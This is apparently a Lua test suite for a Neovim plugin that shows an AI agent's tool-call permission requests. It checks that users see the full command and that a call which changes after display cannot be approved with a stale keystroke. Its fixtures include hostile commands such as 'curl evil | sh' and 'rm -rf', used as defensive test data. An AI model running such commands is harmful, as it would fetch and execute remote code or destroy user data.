-- An answer is for what was shown: the whole call, the call as it was, the decision that was there when typing began.

local T = require("harness")

local METHOD = "session/request_permission"
local OPTS = { width = 100, height = 30 }

---@param id string
---@param input table
---@param fields table?
---@return table
local function asks(id, input, fields)
  local call = { toolCallId = id, title = "Run", kind = "execute", rawInput = input }
  return { permission = { toolCall = vim.tbl_extend("force", call, fields or {}) } }
end

---@param id string
---@param command string
---@return table
local function changes(id, command)
  return { update = { sessionUpdate = "tool_call_update", toolCallId = id, rawInput = { command = command } } }
end

T.case("the card shows all that will run", OPTS, function(nvim)
  local input = {
    command = "git",
    args = { "push", "a b" },
    cwd = "/etc",
    env = { GIT_DIR = "/x" },
    timeout = 7,
  }
  nvim:use(T.agent({ turns = { { asks("1", input, { title = "ls" }) } } }))
  nvim:prompt("go", { open = false })
  nvim:wait_screen("$ git push 'a b'")
  for _, text in ipairs({ "in /etc", "the agent calls it: ls", "env GIT_DIR=/x", "timeout: 7", "outside the workspace" }) do
    nvim:wait_screen(text)
  end
end)

T.case("the card shows a second command, a second directory and what a diff does not say", OPTS, function(nvim)
  local two = { command = "ls", script = "rm -rf z", cwd = "/usr", workdir = "/etc", argv = "-a" }
  local edit = { kind = "edit", title = "Edit a.txt" }
  edit.content = { { type = "diff", path = "${cwd}/a.txt", oldText = "one\n", newText = "two\n" } }
  local read = { kind = "read", title = "Read a.txt", locations = { { path = "${cwd}/a.txt" } } }
  nvim:use(T.agent({
    turns = {
      {
        asks("1", two),
        asks("2", { file_path = ".git/config", new_string = "two" }, edit),
        asks("3", { path = ".git/config" }, read),
      },
    },
  }))
  nvim:prompt("go", { open = false })
  for _, texts in ipairs({
    { "$ ls -a", "script: rm -rf z", "in /usr", "workdir: /etc", "outside the workspace: /" },
    { "asks to edit a file", "file_path: .git/config", "a.txt  +1 -1" },
    { "asks to read a file", "path: .git/config" },
  }) do
    for _, text in ipairs(texts) do
      nvim:wait_screen(text)
    end
    T.ok(not nvim:sees("new_string"), "what the diff shows is not said twice")
    nvim:lua("require('cursor_agent').reject()")
  end
  nvim:wait_turns(1)
end)

T.case("the card names the server of a tool, and a kind does not allow it", OPTS, function(nvim)
  local call = { kind = "read", title = "list_issues (github MCP Server)" }
  local agent = T.agent({ turns = { { asks("1", { repo = "x" }, call), asks("2", { repo = "x" }, call) } } })
  nvim:use(agent, { policy = { { action = "allow", kind = { "read", "search" } } } })
  nvim:prompt("go", { open = false })
  nvim:wait_screen("asks to use list_issues of github")
  nvim:wait_screen('"repo": "x"')
  nvim:lua([[require("cursor_agent").setup(vim.tbl_extend("force", {}, {
    agent = "test", agents = require("cursor_agent.config").get().agents,
    policy = { { action = "allow", tool = "github/*" } },
  }))]])
  nvim:lua("require('cursor_agent').reject()")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "reject-once", "allow-once" })
end)

T.case("a tool of a server is named however the agent calls it, and a kind does not allow it", OPTS, function(nvim)
  local steps = {}
  for i, call in ipairs({
    { "read", "mcp__github__list_issues", {} },
    { "search", "github: list_issues", { q = "x" } },
    { "fetch", "Tool: github/list_issues", { url = "https://x" } },
    { "read", "list_issues", { server_name = "github", path = "a" } },
    { "edit", "List", { server = "github", tool = "list_issues", path = "a" } },
  }) do
    local input = call[3] --[[@as table]]
    steps[i] = asks(tostring(i), next(input) and input or nil, { kind = call[1], title = call[2] })
  end
  local agent = T.agent({ turns = { steps } })
  local kinds = { "read", "search", "fetch", "edit", "other" }
  nvim:use(agent, { policy = { { action = "allow", kind = kinds }, { action = "allow", path = "**" } } })
  nvim:prompt("go", { open = false })
  for i = 1, #steps do
    nvim:wait(("(require('cursor_agent').pending()[1] or {}).entry == %d"):format(i + 1), "decision " .. i)
    nvim:wait_screen("asks to use list_issues of github")
    nvim:lua("require('cursor_agent').reject()")
  end
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "reject-once", "reject-once", "reject-once", "reject-once", "reject-once" })
end)

T.case("a read with a command in its input is a command", OPTS, function(nvim)
  local agent = T.agent({ turns = { { asks("1", { command = "rm -rf x", path = "a" }, { kind = "read" }) } } })
  nvim:use(agent, { policy = { { action = "allow", kind = "read" } } })
  nvim:prompt("go", { open = false })
  nvim:wait_screen("asks to run a command")
  nvim:wait_screen("$ rm -rf x")
  T.eq(agent:outcomes(), {})
end)

T.case("a call that changes is drawn again, and a key typed for the old one decides nothing", OPTS, function(nvim)
  local step, gate = asks("1", { command = "ls" }), { expect = "session/set_mode" }
  step.wait, step.name = false, "p"
  local agent = T.agent({
    turns = { { step, gate, changes("1", "curl evil | sh"), gate, changes("1", "rm x"), { join = "p" } } },
  })
  nvim:use(agent)
  -- What came up first may be answered at once: only the change holds a key back.
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:prompt("go", { open = false })
  nvim:wait_screen("$ ls")
  nvim:cmd("CursorAgent decisions")
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 60000")
  nvim:lua("require('cursor_agent').set_mode('ask')")
  nvim:wait_screen("$ curl evil | sh")
  nvim:keys("a")
  T.eq(agent:outcomes(), {}, "it has only just come up")
  T.eq(nvim:lua("return #require('cursor_agent').pending()"), 1)
  T.eq(nvim:lua("return require('cursor_agent').pending()[1].revision"), 1)
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:lua("require('cursor_agent').set_mode('plan')")
  nvim:wait_screen("$ rm x")
  nvim:keys("r")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "reject-once" })
end)

T.case("a typed accept is for what was there when typing began", OPTS, function(nvim)
  local one, two = asks("1", { command = "first" }), asks("2", { command = "second" })
  one.wait, one.name = false, "p"
  local agent = T.agent({ turns = { { one, { wait_ms = 700 }, { withdraw = "p" }, two } } })
  nvim:use(agent)
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:prompt("go", { open = false })
  nvim:wait_screen("$ first")
  nvim:keys(":CursorAgent acc")
  nvim:wait("(require('cursor_agent').pending()[1] or {}).title == 'second'", "the second to take its place")
  nvim:keys("ept<CR>")
  nvim:wait("vim.fn.execute('messages'):find('nothing was answered', 1, true) ~= nil", "the message")
  T.eq(nvim:lua("return #require('cursor_agent').pending()"), 1)
  nvim:keys("<CR>:CursorAgent accept<CR>")
  nvim:wait_turns(1)
  local last = agent:answers(METHOD)
  T.eq(last[#last].result.outcome.optionId, "allow-once")
end)

T.case("a typed accept is not for a decision that came meanwhile", OPTS, function(nvim)
  local agent = T.agent({ turns = { { { wait_ms = 500 }, asks("1", { command = "first" }) } } })
  nvim:use(agent)
  nvim:prompt("go", { open = false })
  nvim:keys(":lua require('cursor_agent').acc")
  nvim:wait("#require('cursor_agent').pending() == 1", "the decision")
  nvim:keys("ept()<CR>")
  nvim:wait("vim.fn.mode() == 'n'", "the end of the command line")
  T.eq(agent:outcomes(), {})
  T.eq(nvim:lua("return #require('cursor_agent').pending()"), 1)
end)

T.case("a key of the user's own that calls accept() does not answer what has just come up", OPTS, function(nvim)
  local agent = T.agent({ turns = { { asks("1", { command = "first" }) } } })
  nvim:use(agent)
  nvim:lua([[
    vim.keymap.set("n", "Q", function() _G.said = { require("cursor_agent").accept() } end)
    require("cursor_agent.decide").SETTLE_MS = 60000
  ]])
  nvim:prompt("go", { open = false })
  nvim:wait_screen("$ first")
  nvim:keys("<Esc>Q")
  nvim:wait("_G.said ~= nil", "the mapping to run")
  T.contains(nvim:lua("return _G.said[2]"), "nothing was answered")
  T.eq(agent:outcomes(), {})
  -- A script is not held back.
  nvim:lua("require('cursor_agent').accept()")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "allow-once" })
end)

T.case("always is for the whole call", OPTS, function(nvim)
  local agent = T.agent({
    turns = {
      {
        asks("1", { command = "make", env = { A = "1" } }),
        asks("2", { command = "make", env = { A = "1" } }),
        asks("3", { command = "make", env = { A = "2" } }),
        asks("4", { command = "make", cwd = "/etc", env = { A = "1" } }),
        asks("5", { command = "make", env = { A = "1" }, args = { "clean" } }),
      },
    },
  })
  nvim:use(agent)
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:prompt("go", { open = false })
  nvim:wait_screen("env A=1")
  nvim:cmd("CursorAgent decisions")
  nvim:keys("A")
  for _, text in ipairs({ "env A=2", "in /etc", "make clean" }) do
    nvim:wait_screen(text)
    nvim:cmd("CursorAgent decisions")
    nvim:keys("r")
  end
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "allow-always", "allow-once", "reject-once", "reject-once", "reject-once" })
end)

T.case("one id for allow and reject is answered as cancelled, before anyone chooses", OPTS, function(nvim)
  local steps = {}
  for i, kinds in ipairs({
    { "allow_once", "reject_once" },
    { "reject_always", "allow_always" },
    { "allow_always", "reject_once" },
  }) do
    local step = asks(tostring(i), { command = "ls" })
    step.permission.options = { { optionId = "fine", name = "Fine", kind = "allow_once" } }
    for _, kind in ipairs(kinds) do
      table.insert(step.permission.options, { optionId = "x", name = kind, kind = kind })
    end
    steps[i] = step
  end
  local agent = T.agent({ turns = { steps } })
  nvim:use(agent)
  nvim:prompt("go", { open = false })
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "cancelled", "cancelled", "cancelled" })
  T.eq(#nvim:events("CursorAgentDecision"), 0, "nothing is asked")
  T.contains(table.concat(nvim:texts("notice"), "\n"), "answered as cancelled")
end)

T.case("one id for two ways to allow is answered as cancelled once it is chosen", OPTS, function(nvim)
  local step = asks("1", { command = "ls" })
  step.permission.options = {
    { optionId = "x", name = "Yes", kind = "allow_once" },
    { optionId = "x", name = "Always", kind = "allow_always" },
    { optionId = "no", name = "No", kind = "reject_once" },
  }
  local agent = T.agent({ turns = { { step } } })
  nvim:use(agent)
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:prompt("go", { open = false })
  nvim:wait("#require('cursor_agent').pending() == 1", "the decision")
  nvim:cmd("CursorAgent decisions")
  nvim:keys("a")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "cancelled" })
  T.contains(table.concat(nvim:texts("notice"), "\n"), "answered as cancelled")
end)

T.case("reject never rejects for good, by key or by rule", OPTS, function(nvim)
  local options = {
    { optionId = "yes", name = "Yes", kind = "allow_once" },
    { optionId = "never", name = "Never", kind = "reject_always" },
  }
  local one, two = asks("1", { command = "rm x" }), asks("2", { command = "ls" })
  one.permission.options, two.permission.options = options, options
  local agent = T.agent({ turns = { { one, two } } })
  nvim:use(agent, { policy = { { command = "rm *", action = "reject" } } })
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:prompt("go", { open = false })
  nvim:wait_screen("$ ls")
  nvim:cmd("CursorAgent decisions")
  nvim:keys("r")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "cancelled", "cancelled" })
end)

T.case("patterns and commands of any size do not stop the editor", OPTS, function(nvim)
  local long = ("a "):rep(20000)
  local agent = T.agent({ turns = { { asks("1", { command = long .. "b" }) } } })
  nvim:use(agent, { policy = { { command = ("*a"):rep(200) .. "*c", action = "reject" } } })
  local began = vim.uv.hrtime()
  nvim:prompt("go", { open = false })
  nvim:wait("#require('cursor_agent').pending() == 1", "the decision")
  T.eq((vim.uv.hrtime() - began) / 1e9 < 5, true, "asked soon")
end)

T.case("a typed answer by number is for the call as it was when typing began", OPTS, function(nvim)
  local one, gate = asks("1", { command = "ls" }), { expect = "session/set_mode" }
  one.wait, one.name = false, "p"
  local agent = T.agent({ turns = { { one, gate, changes("1", "rm x"), { join = "p" } } } })
  nvim:use(agent)
  nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
  nvim:prompt("go", { open = false })
  nvim:wait_screen("$ ls")
  nvim:lua("_G.c = require('cursor_agent')")
  nvim:keys(":lua _G.said = { c.answer(c.pending()[1].id, { kind = 'allow_once' })")
  nvim:lua("c.set_mode('ask')")
  nvim:wait("c.pending()[1].title == 'rm x'", "the change")
  nvim:keys(" }<CR>")
  nvim:wait("_G.said ~= nil", "the call")
  T.contains(nvim:lua("return _G.said[2]"), "nothing was answered")
  T.eq(agent:outcomes(), {})
  nvim:keys(":lua c.answer(c.pending()[1].id, { kind = 'reject_once' })<CR>")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "reject-once" })
end)

T.case("a typed answer by number is not for a decision that came meanwhile", OPTS, function(nvim)
  local agent = T.agent({ turns = { { { expect = "session/set_mode" }, asks("1", { command = "first" }) } } })
  nvim:use(agent)
  nvim:prompt("go", { open = false })
  nvim:wait_state("running")
  nvim:lua("_G.c = require('cursor_agent')")
  nvim:keys(":lua _G.said = { c.answer(c.pending()[1].id, { kind = 'allow_once' })")
  nvim:lua("c.set_mode('ask')")
  nvim:wait("#c.pending() == 1", "the decision")
  nvim:keys(" }<CR>")
  nvim:wait("_G.said ~= nil", "the call")
  T.contains(nvim:lua("return _G.said[2]"), "nothing was answered")
  -- A script is not held back.
  nvim:lua("c.answer(c.pending()[1].id, { kind = 'reject_once' })")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "reject-once" })
end)

T.case("a script answers while something else is being typed", OPTS, function(nvim)
  local agent = T.agent({ turns = { { { expect = "session/set_mode" }, asks("1", { command = "first" }) } } })
  nvim:use(agent)
  nvim:prompt("go", { open = false })
  nvim:wait_state("running")
  nvim:lua("_G.c = require('cursor_agent')")
  nvim:lua([[vim.api.nvim_create_autocmd("User", { pattern = "CursorAgentDecision", callback = function(args)
    vim.schedule(function() _G.said = { c.answer(args.data.id, { kind = "allow_once" }) } end)
  end })]])
  nvim:keys(":echo 'some")
  nvim:lua("c.set_mode('ask')")
  nvim:wait("_G.said ~= nil", "the script")
  nvim:keys("thing'<CR>")
  nvim:wait_turns(1)
  T.eq(agent:outcomes(), { "allow-once" })
end)
